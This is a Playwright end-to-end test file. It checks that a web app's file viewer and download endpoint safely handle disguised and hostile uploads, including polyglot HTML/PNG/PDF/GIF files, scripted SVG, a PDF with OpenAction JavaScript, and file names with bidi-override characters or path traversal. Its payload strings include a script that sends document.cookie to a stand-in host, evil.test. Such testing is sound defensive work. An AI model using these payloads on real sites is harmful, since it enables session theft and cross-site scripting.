import type { Page } from '@playwright/test'
import { expect, pdf, png, projectAt, type Sent, test } from './fixtures/index.ts'
import { putFile } from './story/files.ts'

const SITE = 'Site du Café Zinc'
const SCRIPT = `<script>alert(1);fetch('https://evil.test/?'+document.cookie);window.ran=1</script>`
const HTML = `<!doctype html><html><body onload="alert(2)"><img src=https://evil.test/x.png onerror="alert(3)">${SCRIPT}</body></html>`
const SVG = `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(4)">${SCRIPT}<image href="https://evil.test/y.png"/><foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="https://evil.test/"/></foreignObject></svg>`

const named = (name: string, body: string | Buffer, mimeType = 'text/html'): Sent => ({
  name,
  mimeType,
  buffer: Buffer.from(body as string, 'latin1'),
})
const behind = (sent: Sent, more: string): Sent => ({
  ...sent,
  buffer: Buffer.concat([sent.buffer, Buffer.from(more)]),
})

/** A PNG whose header says that it is as large as a PNG can be. */
function huge(name: string): Sent {
  const sent = png(name, 4, 4)
  const buffer = Buffer.from(sent.buffer)
  buffer.writeUInt32BE(0x7fffffff, 16)
  buffer.writeUInt32BE(0x7fffffff, 20)
  return { ...sent, buffer }
}

/** A PDF that runs a script and calls elsewhere as it is opened. */
function armed(name: string): Sent {
  const plain = pdf(name, 'Bonjour').buffer.toString('latin1')
  const actions =
    '/OpenAction << /S /JavaScript /JS (app.alert\\(5\\); this.submitForm\\("https://evil.test/"\\);) >> /AA << /O << /S /URI /URI (https://evil.test/pdf) >> >>'
  return {
    name,
    mimeType: 'application/pdf',
    buffer: Buffer.from(plain.replace('/Type /Catalog', `/Type /Catalog ${actions}`), 'latin1'),
  }
}

const at = Date.now()
const set: { what: string; file: Sent; shown: 'image' | 'pdf' | 'text' | 'nothing' }[] = [
  { what: 'HTML behind a PNG', file: behind(png(`a-${at}.png`), HTML), shown: 'image' },
  { what: 'HTML called PNG', file: named(`b-${at}.png`, HTML, 'image/png'), shown: 'nothing' },
  { what: 'HTML', file: named(`c-${at}.html`, HTML), shown: 'nothing' },
  { what: 'SVG with a script', file: named(`d-${at}.svg`, SVG, 'image/svg+xml'), shown: 'nothing' },
  { what: 'SVG called PNG', file: named(`e-${at}.png`, SVG, 'image/png'), shown: 'nothing' },
  { what: 'HTML called text', file: named(`f-${at}.txt`, HTML, 'text/plain'), shown: 'text' },
  { what: 'PDF with a script', file: armed(`g-${at}.pdf`), shown: 'nothing' },
  { what: 'a plain PDF, HTML behind it', file: behind(pdf(`k-${at}.pdf`, 'Bonjour'), HTML), shown: 'pdf' },
  { what: 'HTML before a PDF', file: named(`h-${at}.pdf`, `${HTML}%PDF-1.4\n`), shown: 'nothing' },
  { what: 'GIF that is a script', file: named(`i-${at}.gif`, `GIF89a=1;alert(6)//${HTML}`), shown: 'image' },
  { what: 'picture of 2^31 pixels a side', file: huge(`j-${at}.png`), shown: 'image' },
]

/** Everything that a page does and should not. */
function watched(page: Page, origins: Set<string>): string[] {
  const faults: string[] = []
  page.context().on('dialog', dialog => {
    faults.push(`a dialog: ${dialog.message()}`)
    void dialog.dismiss()
  })
  page.context().on('request', request => {
    const { origin, protocol } = new URL(request.url())
    // The browser's own PDF viewer is an extension of it.
    if (protocol.startsWith('http') && !origins.has(origin)) faults.push(`a request to ${request.url()}`)
  })
  return faults
}

test('what is several things at once is none of them that runs', async ({ open, browser }) => {
  test.setTimeout(240_000)
  const camille = await open('camille')
  const project = await projectAt(camille, 'atelier', SITE)
  const origin = new URL(process.env.E2E_ORIGIN ?? '').origin
  const faults = watched(camille, new Set([origin]))
  // Where the bytes are gone to straight: browsers complain there of their own viewers' styles, which our policy stops.
  const context = await browser.newContext({
    baseURL: origin,
    storageState: await camille.context().storageState(),
  })
  const straight = await context.newPage()
  const elsewhere = watched(straight, new Set([origin]))
  for (const { what, file, shown } of set)
    await test.step(what, async () => {
      const path = await putFile(camille, project, file)
      await camille.goto(path)
      await expect(camille.getByRole('heading', { level: 1, name: file.name })).toBeVisible()
      const parts = { image: '.viewer-sheet img', pdf: 'iframe.preview-pdf', text: '.preview-text pre' }
      for (const [kind, selector] of Object.entries(parts))
        await expect(camille.locator(selector), `${what}: ${kind}`).toHaveCount(kind === shown ? 1 : 0)
      if (shown === 'text') expect(await camille.locator(parts.text).textContent()).toContain('<script>')
      if (shown === 'pdf') await camille.locator(parts.pdf).scrollIntoViewIfNeeded()

      // Straight at its bytes, as somebody may be led there: shown as a picture or a document without an origin, or kept.
      const download = await camille
        .getByRole('link', { name: 'Télécharger', exact: true })
        .first()
        .getAttribute('href')
      const bytes = (download ?? '').replace('?download=1', '')
      const told = await camille.request.get(bytes)
      const headers = told.headers()
      const inline = headers['content-disposition']?.startsWith('inline') ?? false
      expect(inline, what).toBe(shown === 'image' || shown === 'pdf')
      expect(headers['x-content-type-options']).toBe('nosniff')
      expect(headers['content-security-policy']).toContain("default-src 'none'")
      if (!inline) {
        expect(headers['content-security-policy']).toContain('sandbox')
        expect(headers['content-type']).toMatch(/^(application\/octet-stream|text\/plain)/)
      }
      const [kept] = await Promise.all([
        inline ? null : straight.waitForEvent('download'),
        straight.goto(bytes).catch(() => null),
      ])
      if (kept) expect(kept.suggestedFilename()).toBe(file.name)
      await straight.waitForTimeout(400)
      expect(await straight.evaluate('window.ran')).toBeUndefined()
      expect(elsewhere, what).toEqual([])
      expect(await camille.evaluate('window.ran')).toBeUndefined()
      expect(faults, what).toEqual([])
    })
  await context.close()
})

test('a name cannot turn itself around, hide or lead elsewhere', async ({ open }) => {
  const camille = await open('camille')
  const project = await projectAt(camille, 'atelier', SITE)
  const names = [`facture-${at}1\u202efdp.pdf`, `zero\u200b\u200dlarge-${at}2.pdf`, `../../etc/${at}3.pdf`]
  for (const [i, name] of names.entries()) {
    const path = await putFile(camille, project, pdf(name, 'Bonjour'), `${at}${i + 1}`)
    await camille.goto(path)
    const title = camille.getByRole('heading', { level: 1 })
    const shown = (await title.textContent()) ?? ''
    expect(shown).not.toMatch(/[\u200b-\u200f\u202a-\u202e\u2066-\u2069/\\]/)
    const [download] = await Promise.all([
      camille.waitForEvent('download'),
      camille.getByRole('link', { name: 'Télécharger', exact: true }).first().click(),
    ])
    expect(download.suggestedFilename()).not.toMatch(/[\u200b-\u200f\u202a-\u202e/\\]/)
    expect(download.suggestedFilename()).toContain(`${at}${i + 1}`)
  }
})
